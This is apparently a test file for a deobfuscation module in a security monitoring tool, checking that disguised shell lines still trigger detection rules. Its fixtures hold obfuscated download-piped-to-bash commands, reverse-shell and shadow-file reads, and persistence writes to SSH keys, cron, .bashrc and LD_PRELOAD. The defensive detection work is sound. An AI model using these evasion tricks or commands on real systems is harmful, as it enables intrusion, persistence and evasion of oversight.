"""Disguised shell lines read as a shell would run them (collector/rules/deobfuscate.py), and the rules seeing
through the disguise: each disguise of one download-to-shell line fires what the plain line fires (pure logic)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from collector.rules.deobfuscate import MAX_TEXT, code_as_shell, readable
from tests.test_benign_commands import fired

PLAIN = "curl -s http://203.0.113.7/x.sh | bash"

DISGUISES = {
    "empty quotes": "c''url -s http://203.0.113.7/x.sh | b\"\"ash",
    "escaped letters": "c\\u\\r\\l -s http://203.0.113.7/x.sh | ba\\sh",
    "IFS": "curl${IFS}-s${IFS}http://203.0.113.7/x.sh|bash",
    "brace list": "{curl,-s,http://203.0.113.7/x.sh}|bash",
    "ANSI-C escapes": "$'\\x63\\x75\\x72\\x6c' -s http://203.0.113.7/x.sh | bash",
    "variables": "a=cu;b=rl;$a$b -s http://203.0.113.7/x.sh | bash",
    "base64 in a subshell": "bash -c \"$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IGJhc2g= | base64 -d)\"",
    "reversed": "echo 'hsab | hs.x/7.311.0.302//:ptth s- lruc' | rev | sh",
    "hex here-string": "xxd -r -p <<< " + b"curl -s http://203.0.113.7/x.sh | bash".hex() + " | sh",
    "printf in a substitution": "$(printf '\\x63\\x75\\x72\\x6c') -s http://203.0.113.7/x.sh | `echo bash`",
}


@pytest.mark.parametrize("name", sorted(DISGUISES))
def test_a_disguised_line_fires_what_the_plain_line_fires(name):
    plain = fired(["/bin/sh", "-c", PLAIN]) - {"shell-line-disguised"}
    assert "download-piped-to-shell" in plain and "download-from-bare-address" in plain
    disguised = fired(["/bin/sh", "-c", DISGUISES[name]])
    assert plain <= disguised, f"{name}: {sorted(plain - disguised)} not seen through"


@pytest.mark.parametrize("name", sorted(set(DISGUISES) - {"base64 in a subshell", "hex here-string"}))
def test_the_disguise_itself_is_named(name):
    assert "shell-line-disguised" in fired(["/bin/sh", "-c", DISGUISES[name]])


def test_a_plain_line_is_not_named_disguised():
    assert "shell-line-disguised" not in fired(["/bin/sh", "-c", PLAIN])
    assert readable("sh -c " + PLAIN) == ""


@pytest.mark.parametrize("line, wanted", [
    ("c''url x", "curl x"),
    ("c\\u\\r\\l x", "curl x"),
    ("a${IFS}b", "a b"),
    ("{nc,-e,/bin/sh,h,1}", "nc -e /bin/sh h 1"),
    ("$'\\x6e\\x63' h 1", "nc h 1"),
    ("$'\\156\\143' h 1", "nc h 1"),
    ("x=wg;y=et;$x$y u", "x=wg;y=et;wget u"),
    ("d=/tmp/.x; ${d}/run", "d=/tmp/.x; /tmp/.x/run"),
    ("/???/b??h -i", "/bin/bash -i"),
    ("cat /e?c/sha*", "cat /etc/shadow"),
    ("$(printf '\\x6e\\x63') h 1", "nc h 1"),
    ("$(echo -e \"\\156c\") h 1", "nc h 1"),
    ("`echo wget` u", "wget u"),
    ("${PATH:0:1}bin${PATH:0:1}sh -i", "/bin/sh -i"),
    ("python3 -c \"getattr(__import__('o'+'s'),'sys'+'tem')('id')\"",
     "python3 -c \"getattr(__import__('os'),'system')('id')\""),
    ("node -e \"require('child_'+'pro'+'cess')\"", "node -e \"require('child_process')\""),
])
def test_each_disguise_undone(line, wanted):
    assert readable(line).split(" ; ")[0] == wanted


@pytest.mark.parametrize("line, payload", [
    ("echo aWQ7IHVuYW1lIC1h | base64 -d | sh", "id; uname -a"),
    ("base64 -d <<< 'aWQ7IHVuYW1lIC1h' | sh", "id; uname -a"),
    ("echo 'a- dI' | rev", "Id -a"),
    ("printf '\\x69\\x64' | sh", "id"),
    ("printf '\\151\\144\\073' | sh", "id;"),
    ("python3 -c \"exec(''.join(map(chr,[105,109,112,111,114,116])))\"", "import"),
    ("perl -e 'eval pack(\"H*\",\"7072696e74203132\")'", "print 12"),
    ("printf '%s' 'aWQ7IHVuYW1lIC1h' | base64 -d | sh", "id; uname -a"),
    ("echo 'vq; hanzr -n' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh", "id; uname -a"),
])
def test_decoded_payloads_are_read(line, payload):
    assert payload in readable(line).split(" ; ")[1:]


def test_binary_payloads_are_not_kept():
    assert readable("echo /w== | base64 -d | sh").count(" ; ") == 0    # 0xff: not text


def test_ordinary_lines_read_as_they_are():
    for line in ("python3 train.py --lr 3e-4 --data /data/*.parquet", "for f in $(ls); do echo $f; done",
                 "torchrun --nproc_per_node=8 main.py", "echo \"$HOME\"", "ls /data/{train,val}"):
        assert readable(line) == "", line


def test_overlong_lines_are_left_alone():
    assert readable("c''url " + "x" * MAX_TEXT) == ""


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_any_text_reads_without_error_and_bounded(text):
    out = readable(text)
    assert isinstance(out, str)
    assert len(out) <= 8 * len(text) + 64


@pytest.mark.parametrize("code, shell", [
    ("open('/root/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA x')",
     "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"),
    ("with open('/etc/cron.d/x','w') as f: f.write('* * * * * root /tmp/w')",
     "echo '* * * * * root /tmp/w' > /etc/cron.d/x"),
    ("require('fs').appendFileSync(process.env.HOME+'/.bashrc','/tmp/w &')", "echo '/tmp/w &' >> $HOME/.bashrc"),
    ("File.write(\"/etc/cron.d/x\",\"* * * * * root /tmp/w\")", "echo '* * * * * root /tmp/w' > /etc/cron.d/x"),
    ("open(F,\">>/root/.ssh/authorized_keys\");print F \"ssh-rsa AAAA x\"",
     "echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys"),
    ("shutil.copytree('/models/policy','/tmp/.w')", "cp -r /models/policy /tmp/.w"),
    ("os.environ['LD_PRELOAD']='/tmp/.l/x.so'", "export LD_PRELOAD=/tmp/.l/x.so"),
])
def test_inline_code_reads_as_the_shell_line_that_does_the_same(code, shell):
    assert code_as_shell(code) == [shell]
    assert shell in readable(f"python3 -c \"{code}\"").split(" ; ") or shell in readable(code).split(" ; ")


def test_code_that_reads_files_is_not_made_a_write():
    assert code_as_shell("print(open('/etc/os-release').read())") == []
